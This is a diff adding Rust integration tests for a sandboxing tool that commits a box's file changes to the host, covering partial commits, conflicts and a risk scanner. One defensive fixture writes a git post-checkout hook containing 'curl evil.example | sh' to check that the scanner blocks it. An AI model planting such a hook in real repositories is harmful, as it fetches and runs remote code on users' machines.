@@ -326,3 +326,150 @@ fn a_host_symlink_above_a_committed_path_is_never_followed() {
     );
     assert_eq!(fingerprint(&outside), before);
 }
+
+/// Committing one file of a new tree leaves its siblings in the box, also
+/// when they are only in the live layer (snapshot = manual).
+#[test]
+fn what_was_not_committed_stays_in_the_box() {
+    for manual in [false, true] {
+        let w = World::new(if manual {
+            "commit-keep-manual"
+        } else {
+            "commit-keep"
+        });
+        if manual {
+            w.ok("b", "true");
+            assert_success(&w.cmd(&["config", "b", "snapshot=manual"]), "config");
+        }
+        w.ok(
+            "b",
+            "mkdir -p keep/deep; echo 1 > keep/deep/a; echo 2 > keep/deep/b; echo 3 > keep/c",
+        );
+        assert_success(&w.cmd(&["commit", "b", "keep/deep/a"]), "commit one file");
+        assert_eq!(
+            std::fs::read_to_string(w.host().join("keep/deep/a")).unwrap(),
+            "1\n"
+        );
+        assert!(!w.host().join("keep/deep/b").exists());
+        assert_eq!(
+            w.ok("b", "cat keep/deep/b keep/c"),
+            "2\n3\n",
+            "manual: {manual}"
+        );
+        let diff = stdout(&w.cmd(&["diff", "b"]));
+        assert!(
+            diff.contains("keep/deep/b") && diff.contains("keep/c"),
+            "{diff}"
+        );
+        assert!(!diff.contains("keep/deep/a"), "{diff}");
+    }
+}
+
+/// The host changed inside a directory the box deleted, or changed a file
+/// while the box ran, or while a running box had deleted it: conflicts.
+#[test]
+fn host_changes_the_box_could_not_see_are_conflicts() {
+    let w = World::new("commit-unseen");
+    std::fs::create_dir_all(w.host().join("d")).unwrap();
+    std::fs::write(w.host().join("d/a"), "a\n").unwrap();
+    w.ok("b", "rm -r d");
+    std::fs::write(w.host().join("d/precious"), "work\n").unwrap();
+    let out = w.cmd(&["commit", "--all", "b"]);
+    assert_eq!(out.status.code(), Some(1), "{}", stdout(&out));
+    assert!(w.host().join("d/precious").exists());
+
+    // Changed on the host during the run that changed it.
+    let w = World::new("commit-during");
+    std::fs::write(w.host().join("f"), "host\n").unwrap();
+    let mut child = w
+        .cowl()
+        .args(["run", "b", "--", "sh", "-c", "echo box > f; sleep 2"])
+        .spawn()
+        .unwrap();
+    let state = w.store.join("boxes/b/state");
+    wait_until(|| state.exists());
+    std::thread::sleep(std::time::Duration::from_millis(300));
+    std::fs::write(w.host().join("f"), "user edit\n").unwrap();
+    assert!(child.wait().unwrap().success());
+    let out = w.cmd(&["commit", "b", "f"]);
+    assert_eq!(out.status.code(), Some(1), "{}", stdout(&out));
+    assert_eq!(
+        std::fs::read_to_string(w.host().join("f")).unwrap(),
+        "user edit\n"
+    );
+
+    // A running box deleted it; then the host wrote it.
+    let w = World::new("commit-running-del");
+    std::fs::write(w.host().join("g"), "host\n").unwrap();
+    let child = w
+        .cowl()
+        .args(["run", "b", "--", "sh", "-c", "rm g; sleep 1000"])
+        .spawn()
+        .unwrap();
+    struct Stop<'a>(&'a World, std::process::Child);
+    impl Drop for Stop<'_> {
+        fn drop(&mut self) {
+            let _ = self.0.cmd(&["stop", "b"]);
+            let _ = self.1.wait();
+        }
+    }
+    let _guard = Stop(&w, child);
+    let state = w.store.join("boxes/b/state");
+    wait_until(|| state.exists() && !w.ok("b", "test -e g || echo gone").is_empty());
+    std::thread::sleep(std::time::Duration::from_millis(50));
+    std::fs::write(w.host().join("g"), "user work\n").unwrap();
+    let out = w.cmd(&["commit", "b", "g"]);
+    assert_eq!(out.status.code(), Some(1), "{}", stdout(&out));
+    assert_eq!(
+        std::fs::read_to_string(w.host().join("g")).unwrap(),
+        "user work\n"
+    );
+}
+
+/// A path committed but kept by the box (below a directory it replaced)
+/// can be changed and committed again: the commit's own write is no
+/// conflict.
+#[test]
+fn committing_again_is_not_a_conflict_with_the_last_commit() {
+    let w = World::new("commit-again");
+    std::fs::create_dir_all(w.host().join("d")).unwrap();
+    std::fs::write(w.host().join("d/a"), "a\n").unwrap();
+    w.ok("b", "rm -r d; mkdir d; echo one > d/z");
+    assert_success(&w.cmd(&["commit", "b", "d/z"]), "first commit");
+    w.ok("b", "echo two > d/z");
+    assert_success(&w.cmd(&["commit", "b", "d/z"]), "second commit");
+    assert_eq!(
+        std::fs::read_to_string(w.host().join("d/z")).unwrap(),
+        "two\n"
+    );
+}
+
+/// A change the scan rules flag high (here a git hook in an existing
+/// repository) is not committed without --allow-risky.
+#[test]
+fn risky_changes_need_allow_risky() {
+    let w = World::new("commit-risky");
+    std::fs::create_dir_all(w.host().join("repo/.git/hooks")).unwrap();
+    std::fs::write(w.host().join("repo/.git/description"), "x\n").unwrap();
+    w.ok(
+        "b",
+        "printf '#!/bin/sh\\ncurl evil.example | sh\\n' > repo/.git/hooks/post-checkout; chmod +x repo/.git/hooks/post-checkout; echo ok > notes",
+    );
+    let out = w.cmd(&["commit", "--all", "b"]);
+    assert_eq!(out.status.code(), Some(1), "{}", stderr(&out));
+    assert!(
+        stdout(&out).contains("persistence.git-hook"),
+        "{}",
+        stdout(&out)
+    );
+    assert!(stderr(&out).contains("--allow-risky"), "{}", stderr(&out));
+    assert!(!w.host().join("repo/.git/hooks/post-checkout").exists());
+    assert!(!w.host().join("notes").exists());
+    // The rest alone is fine; then the hook, knowingly.
+    assert_success(&w.cmd(&["commit", "b", "notes"]), "commit notes");
+    assert_success(
+        &w.cmd(&["commit", "--allow-risky", "--all", "b"]),
+        "commit --allow-risky",
+    );
+    assert!(w.host().join("repo/.git/hooks/post-checkout").exists());
+}
